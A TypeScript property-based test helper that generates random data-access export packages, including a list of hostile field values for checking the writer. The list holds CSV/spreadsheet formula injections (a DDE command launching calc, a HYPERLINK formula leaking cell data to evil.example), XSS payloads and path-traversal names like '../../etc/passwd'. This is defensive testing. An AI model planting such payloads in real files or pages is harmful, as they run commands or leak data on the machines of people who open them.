import fc from 'fast-check';
import type {
  PackageCategory,
  PackageContents,
  PackageRecord,
} from '../rights/packages/document.js';
import type { ZipFile } from '../rights/packages/write-zip.js';

/** What somebody could have had put into a field, to harm whoever opens the file. */
export const HOSTILE: readonly string[] = [
  `=cmd|' /C calc'!A0`,
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  'x\r=1+1',
  'x\n=1+1',
  '|calc',
  '%0A=1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
  '=HYPERLINK("https://evil.example?"&A1,"here")',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  `'><a href="javascript:alert(1)">x</a>`,
  '</td></tr></table><h1>',
  ']]><![CDATA[',
  '<!-- ',
  '&lt;b&gt; &amp; &#60;',
  'a\r\nb\nc\rd',
  'a\0b\u0001\u007f\u0085',
  '\ud800 alone, and \udc00',
  '\u202eevil\u2066\u200f',
  '\ufeffmark',
  '"quoted", and; more',
  ' ',
  '',
];

const value = () =>
  fc.oneof(
    { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
    { weight: 2, arbitrary: fc.constantFrom(...HOSTILE) },
    fc.double({ noNaN: true, noDefaultInfinity: true }).map((number) => number + 0),
    fc.boolean(),
    fc.constant(null),
  );

const name = () =>
  fc.oneof(
    fc.string({ minLength: 1, maxLength: 12 }),
    fc.constantFrom('../../etc/passwd', 'con', '/root', 'a\0b', 'constructor', '__proto__', 'Été'),
  );

const record = (): fc.Arbitrary<PackageRecord> =>
  fc
    .record({
      record: name(),
      fields: fc
        .array(fc.tuple(name(), value()), { maxLength: 6 })
        .map((pairs) => Object.fromEntries(pairs)),
      kept: fc.option(
        fc.record({
          ground: fc.string({ maxLength: 12 }),
          until: fc.constant('2036-12-31T23:59:59.999Z'),
        }),
        { nil: undefined },
      ),
    })
    .map(({ kept, ...rest }) => ({ ...rest, ...(kept && { kept }) }));

/** A category with these records, so many to a part. */
export function packageCategory(
  id: string,
  records: readonly PackageRecord[],
  given: Partial<PackageCategory> & { each?: number } = {},
): PackageCategory {
  const { each = 3, ...rest } = given;
  const parts = Math.ceil(records.length / each);
  return {
    ...{ id, label: id, purpose: 'To know', basis: 'contract', retention: '3 years' },
    recipients: ['Agenda SARL'],
    labels: {},
    count: records.length,
    fields: [...new Set(records.flatMap(({ fields }) => Object.keys(fields)))],
    hasKept: records.some(({ kept }) => kept),
    parts,
    async *read(from = 0, to = parts) {
      for (let part = from; part < Math.min(to, parts); part += 1)
        yield records.slice(part * each, (part + 1) * each);
    },
    ...rest,
  };
}

/** A package of one person, of a site in English. */
export function packageContents(
  systems: Readonly<Record<string, readonly PackageCategory[]>>,
): PackageContents {
  return {
    about: {
      request: {
        id: '6b1e3c1e-2d7e-4a5e-9c39-0a1f6b7c8d9e',
        type: 'access',
        receivedAt: '2026-11-20T08:00:00.000Z',
      },
      preparedAt: '2026-11-22T12:00:00.000Z',
      language: 'en',
      scope: 'site',
      controllers: [{ name: 'Maison Tilleul', privacyUrl: 'https://shop.example/privacy' }],
      recipients: ['Mailing SAS'],
      rights: 'You can ask.',
      complaint: 'You can complain.',
    },
    systems: Object.entries(systems).map(([id, categories]) => ({
      ...{ id, name: id, kind: 'database', status: 'collected', categories },
    })),
  };
}

/** Packages of anything at all. */
export function arbitraryContents(): fc.Arbitrary<PackageContents> {
  const category = fc.tuple(name(), fc.array(record(), { minLength: 1, maxLength: 8 }));
  return fc
    .uniqueArray(fc.tuple(name(), fc.array(category, { maxLength: 3 })), {
      maxLength: 3,
      selector: ([id]) => id,
    })
    .map((systems) =>
      packageContents(
        Object.fromEntries(
          systems.map(([id, categories]) => [
            id,
            categories.map(([own, records]) => packageCategory(own, records)),
          ]),
        ),
      ),
    );
}

/** All that a writer writes, as a file holds it: what is no Unicode is lost there. */
export async function written(pieces: AsyncIterable<string>): Promise<string> {
  let text = '';
  for await (const piece of pieces) text += Buffer.from(piece).toString();
  return text;
}

/** Every file of a package, by its name. */
export async function writtenFiles(files: Iterable<ZipFile>): Promise<Map<string, string>> {
  const all = new Map<string, string>();
  for (const { name: file, body } of files) all.set(file, await written(body));
  return all;
}
